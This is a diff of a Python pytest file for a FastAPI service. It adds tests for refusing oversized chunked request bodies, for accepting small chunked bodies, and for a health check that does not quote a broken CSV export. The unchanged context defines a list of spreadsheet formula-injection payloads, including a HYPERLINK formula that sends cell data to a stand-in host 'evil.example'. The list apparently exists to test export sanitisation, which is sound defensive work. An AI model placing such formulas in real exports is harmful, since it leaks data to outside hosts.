@@ -2,14 +2,20 @@
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
+import json
+import shutil
+from pathlib import Path
 
 import pytest
 from fastapi.testclient import TestClient
 
 from serving import exports
-from tests.serving.conftest import Keys
+from serving.app import create_app
+from serving.auth import create_api_key
+from tests.serving.conftest import Keys, service_settings
 from tests.serving.test_pages_kit import sign_in
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(A1:A9)", "+1+2", "-2+3")
@@ -130,3 +136,79 @@ def test_not_found_never_echoes_the_request(
     assert response.status_code == 404, response.text
     assert response.headers["content-type"].startswith("application/problem+json")
     assert echo not in response.text and "not found" in response.json()["title"].lower()
+
+
+FIFTY_MB = 50 * 2**20
+
+
+def test_a_chunked_body_over_the_limit_is_refused_without_reading_it_all(
+    service: tuple[TestClient, Keys],
+) -> None:
+    """50 MB streamed without a Content-Length: 413 after the first chunks, the rest unread."""
+    client, keys = service
+    chunk, given = b"x" * 65_536, 0
+
+    async def receive() -> dict:
+        nonlocal given
+        given += len(chunk)
+        return {"type": "http.request", "body": chunk, "more_body": given < FIFTY_MB}
+
+    sent: list[dict] = []
+
+    async def send(message: dict) -> None:
+        sent.append(message)
+
+    scope = {
+        "type": "http",
+        "asgi": {"version": "3.0"},
+        "http_version": "1.1",
+        "method": "POST",
+        "scheme": "http",
+        "path": "/v1/shortlists",
+        "raw_path": b"/v1/shortlists",
+        "root_path": "",
+        "query_string": b"",
+        "headers": [
+            (b"transfer-encoding", b"chunked"),
+            (b"content-type", b"application/json"),
+            (b"authorization", keys.header("admin")["Authorization"].encode()),
+        ],
+        "client": ("127.0.0.1", 5000),
+        "server": ("testserver", 80),
+    }
+    asyncio.run(client.app(scope, receive, send))
+    start = next(m for m in sent if m["type"] == "http.response.start")
+    assert start["status"] == 413
+    assert (b"content-type", b"application/problem+json") in start["headers"]
+    assert given <= 2 * len(chunk) < FIFTY_MB
+
+
+def test_a_chunked_body_under_the_limit_reaches_the_route(
+    service: tuple[TestClient, Keys], vacancy: str
+) -> None:
+    client, keys = service
+    body = json.dumps({"position_id": vacancy, "k": 2}).encode()
+    response = client.post(
+        "/v1/shortlists",
+        content=(body[i : i + 7] for i in range(0, len(body), 7)),
+        headers={**keys.header("admin"), "content-type": "application/json"},
+    )
+    assert "content-length" not in response.request.headers
+    assert response.status_code == 201, response.text
+
+
+def test_health_says_not_ready_without_quoting_a_broken_export(
+    small_export_dir: Path, tmp_path: Path
+) -> None:
+    broken = tmp_path / "broken"
+    shutil.copytree(small_export_dir, broken)
+    employees = broken / "employees.csv"
+    lines = employees.read_text(encoding="utf-8").splitlines(keepends=True)
+    employees.write_text("".join([*lines, lines[1]]), encoding="utf-8")
+    nip = lines[1].split(",", 1)[0]
+    with TestClient(create_app(service_settings(tmp_path), data_dir=broken)) as client:
+        health = client.get("/health")
+        assert health.status_code == 503 and health.json() == {"status": "not ready"}
+        admin = create_api_key(client.app.state.db, "admin", None)[1]
+        status = client.get("/v1/admin/status", headers={"Authorization": f"Bearer {admin}"})
+    assert status.json()["status"] == "not ready" and nip in status.json()["reason"]
